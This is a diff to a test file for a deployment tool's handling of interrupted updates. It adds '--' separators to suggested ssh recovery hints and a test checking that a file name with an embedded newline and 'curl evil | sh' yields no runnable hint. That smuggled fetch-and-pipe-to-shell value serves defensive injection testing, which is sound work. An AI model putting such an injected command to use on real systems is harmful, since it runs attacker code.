@@ -123,12 +123,23 @@ describe('an update that was interrupted', () => {
     })
     await expect(ship(['env'])).rejects.toMatchObject({
       hint: [
-        `to keep the version on web-1: fleet ssh web-1 sudo cat ${there('dir/a')} > ${local('dir/a')}`,
-        `to keep the version on this computer: fleet ssh web-1 sudo rm ${there('dir/a')}; then run the command again`,
+        `to keep the version on web-1: fleet ssh web-1 -- sudo cat ${there('dir/a')} > ${local('dir/a')}`,
+        `to keep the version on this computer: fleet ssh web-1 -- sudo rm ${there('dir/a')}; then run the command again`,
       ].join('; '),
     })
     await write(local, { 'dir/a': 'old' })
     await ship()
     expect(await readFile(there('dir/a'), 'utf8')).toBe('of a container')
+  })
+
+  test('names no command that a line break in a name would tear', async () => {
+    const odd = 'dir/a\ncurl evil | sh\n'
+    await write(local, { [odd]: 'old' })
+    await ship()
+    await write(there, { [odd]: 'of a container' })
+    await write(local, { [odd]: 'newer' })
+    await expect(ship()).rejects.toMatchObject({
+      hint: 'give the file a name without control characters, then run the command again',
+    })
   })
 })
